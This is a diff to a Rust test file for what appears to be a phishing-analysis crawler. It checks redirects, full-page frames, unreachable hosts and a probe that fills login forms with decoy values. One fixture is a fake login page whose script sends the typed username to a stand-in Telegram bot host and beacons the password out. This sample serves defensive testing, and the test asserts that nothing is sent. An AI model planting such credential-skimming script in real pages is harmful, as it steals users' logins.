@@ -1,6 +1,7 @@
 //! Visits of servers on loopback, in a real Chromium. Where there is none these tests fail: `cargo xtask test` installs it.
 
 mod attacks;
+mod costs;
 mod hostile;
 mod server;
 
@@ -29,7 +30,11 @@ fn visitor(servers: &[&Server], names: &[&str]) -> Visitor {
 }
 
 async fn seen(visitor: &Visitor, url: &str, profile: Profile) -> Visit {
-    match visitor.visit(url, profile, false).await {
+    told(visitor.visit(url, profile, false).await)
+}
+
+fn told(reply: Reply) -> Visit {
+    match reply {
         Reply { answer: Answer::Found { data: Data::Visit(visit) }, .. } => *visit,
         reply => unreachable!("a visit is always told: {reply:?}"),
     }
@@ -87,4 +92,109 @@ async fn a_link_through_the_browser() {
     assert!(visit.bounds.is_empty(), "{:?}", visit.bounds);
     let agent = server.heard("/r").header("user-agent");
     assert!(agent.contains("Android") && !agent.contains("Headless"), "{agent}");
+}
+
+/// Forms that send themselves, by a script, and to nobody: where it goes is told, and no server hears of it.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_probed_form_tells_where_it_goes_and_sends_nothing() {
+    let server = Server::start(|request| match request.path() {
+        "/form" => page(
+            "<h1>Log in</h1><form method=post action=/drop.php?k=1><input name=mail><input type=password name=pass>\
+             <select name=lang><option>ja<option>en</select><button>go</button></form>",
+        ),
+        "/script" => page(
+            "<h1>Log in</h1><input id=user><input id=pin type=password><button type=button id=go>go</button><script>\
+             document.getElementById('go').onclick=()=>{\
+             fetch('https://api.telegram.example/bot1/send',{method:'POST',body:btoa(document.getElementById('user').value)});\
+             navigator.sendBeacon('/beacon',document.getElementById('pin').value);\
+             new Image().src='/pixel?u='+document.getElementById('user').value}</script>",
+        ),
+        _ => page("<p>Nothing to be filled in stands on this page, whoever comes and looks at it, at any time of the day.</p>"),
+    })
+    .await;
+    let visitor = visitor(&[&server], &["www.shop.example"]);
+    let at = |path: &str| format!("http://www.shop.example:{}{path}", server.port);
+    let form = told(visitor.visit(&at("/form"), Profile::JapaneseDesktop, true).await);
+    let probe = form.form_probe.expect("a probe");
+    assert_eq!(probe.requests, [format!("POST {}", at("/drop.php?k=1"))]);
+    assert_eq!(probe.filled, ["mail", "pass", "lang"]);
+    assert_eq!(form.steps.len(), 1, "{:#?}", form.steps);
+    let script = told(visitor.visit(&at("/script"), Profile::JapaneseMobile, true).await);
+    let probe = script.form_probe.expect("a probe");
+    assert!(probe.requests.contains(&"POST https://api.telegram.example/bot1/send".to_owned()), "{probe:?}");
+    assert!(probe.requests.iter().any(|request| request.contains("/pixel?u=fuwake-decoy")), "{probe:?}");
+    assert!(script.page.expect("a page").forms[0].by_script);
+    assert_eq!(told(visitor.visit(&at("/none"), Profile::JapaneseMobile, true).await).form_probe, None);
+    let heard: Vec<String> = server.all().iter().map(|request| request.path().to_owned()).collect();
+    assert!(
+        !heard.iter().any(|path| ["/drop.php", "/beacon", "/pixel"].contains(&path.as_str())),
+        "{heard:?}"
+    );
+}
+
+/// A frame of another site that fills the page is the last step, and what stands in it is the page's.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_frame_that_fills_the_page() {
+    let inner = Server::start(|_| {
+        page("<title>inner</title><h1>Log in here</h1><form action=/x><input type=password name=p></form>")
+    })
+    .await;
+    let port = inner.port;
+    let outer = Server::start(move |_| {
+        page(&format!(
+            "<body style=margin:0><iframe src=http://login.other.example:{port}/in style='border:0;width:100vw;height:100vh'></iframe>"
+        ))
+    })
+    .await;
+    let visitor = visitor(&[&outer, &inner], &["www.shop.example", "login.other.example"]);
+    let url = format!("http://www.shop.example:{}/", outer.port);
+    let visit = seen(&visitor, &url, Profile::JapaneseDesktop).await;
+    assert_eq!(visit.steps.len(), 2, "{:#?}", visit.steps);
+    let last = &visit.steps[1];
+    assert_eq!((last.kind, last.status, last.body.is_some()), (StepKind::Frame, Some(200), true));
+    let page = visit.page.expect("a page");
+    assert_eq!((page.title.as_str(), page.forms.len()), ("inner", 1));
+    assert!(page.text.contains("Log in here"));
+    assert_eq!(
+        visit.contacts.iter().map(|contact| contact.host.as_str()).collect::<Vec<_>>(),
+        ["login.other.example", "www.shop.example"]
+    );
+}
+
+/// Without a browser the servers' own words are left: redirects, refreshes, the page as it was sent.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_link_without_a_browser() {
+    let server = Server::start(|request| match request.path() {
+        "/r" => "HTTP/1.1 302 Found\r\nlocation: /h\r\nset-cookie: a=b; path=/\r\ncontent-length: 0\r\n\r\n".into(),
+        "/h" => "HTTP/1.1 200 OK\r\nrefresh: 0;url=/meta\r\ncontent-type: text/html\r\ncontent-length: 1\r\n\r\nx".into(),
+        "/meta" => page("<meta http-equiv=Refresh content=\"0; URL='/end'\">"),
+        "/end" => page("<title>ログイン</title><meta charset=utf-8><form action=/p method=post><input type=password name=p></form>"),
+        _ => "HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\n\r\n".into(),
+    })
+    .await;
+    let mut visitor = visitor(&[&server], &["www.shop.example"]);
+    visitor.pool = None;
+    let url = format!("http://www.shop.example:{}/r", server.port);
+    let visit = seen(&visitor, &url, Profile::JapaneseDesktop).await;
+    let kinds: Vec<StepKind> = visit.steps.iter().map(|step| step.kind).collect();
+    assert_eq!(kinds, [StepKind::Link, StepKind::Redirect, StepKind::RefreshHeader, StepKind::MetaRefresh]);
+    assert_eq!((visit.browser, visit.end, visit.cookies), (None, VisitEnd::Shown, vec!["a".to_owned()]));
+    assert_eq!(visit.page.expect("a page").forms[0].fields[0].kind, "password");
+    assert_eq!(server.heard("/h").header("cookie"), "a=b");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn nobody_there() {
+    let (server, visitor) = (Server::start(|_| page("x")).await, visitor(&[], &["www.shop.example"]));
+    let mut visitor = visitor;
+    visitor.guard.servers.push(SocketAddr::new(LOOPBACK, 9));
+    let visit = seen(&visitor, "http://www.shop.example:9/", Profile::JapaneseDesktop).await;
+    assert_eq!((visit.end, visit.page), (VisitEnd::Unreachable, None));
+    visitor.guard.names.insert("none.example".to_owned(), Vec::new());
+    let visit = seen(&visitor, "http://none.example/", Profile::JapaneseDesktop).await;
+    assert_eq!(visit.end, VisitEnd::NoSuchName, "{visit:#?}");
+    let inner = format!("http://127.0.0.1:{}/", server.port);
+    let visit = seen(&visitor, &inner, Profile::JapaneseDesktop).await;
+    assert_eq!((visit.end, visit.pictures), (VisitEnd::Refused, Default::default()));
+    assert_eq!(visit.steps[0].fault.as_deref(), Some("inner-address"));
 }
